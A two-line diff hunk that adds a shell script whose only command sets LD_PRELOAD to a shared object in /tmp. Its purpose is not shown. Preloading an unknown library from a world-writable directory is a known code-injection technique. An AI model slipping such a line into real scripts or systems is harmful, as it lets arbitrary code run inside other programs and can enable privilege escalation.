@@ -1,0 +1,2 @@
+#!/bin/sh
+export LD_PRELOAD=/tmp/x.so
